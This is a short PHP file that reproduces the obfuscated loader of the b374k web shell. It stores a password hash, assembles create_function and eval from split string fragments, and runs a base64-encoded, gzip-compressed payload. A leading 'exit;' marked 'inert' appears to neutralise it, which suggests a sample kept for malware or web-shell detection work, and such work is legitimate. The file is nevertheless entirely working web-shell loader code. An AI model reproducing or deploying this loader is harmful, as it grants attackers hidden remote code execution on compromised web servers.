<?php exit; /* inert */ 
$GLOBALS['pass'] = "0de664ecd2be02cdd54234a0d1229b43"; // sha1(md5())
$func="cr"."eat"."e_fun"."cti"."on";$b374k=$func('$x','ev'.'al'.'("?>".gz'.'un'.'com'.'pre'.'ss(ba'.'se'.'64'.'_de'.'co'.'de($x)));');
$b374k("eJyzsS/IKFDQ11IoyElMTs3Iz0lJLVJIyk+p1FHIyy/JyMxLV8hILUpV0NJXSE3OyFcwtIbQRlDa2FrB3g4AHOAVrw==");
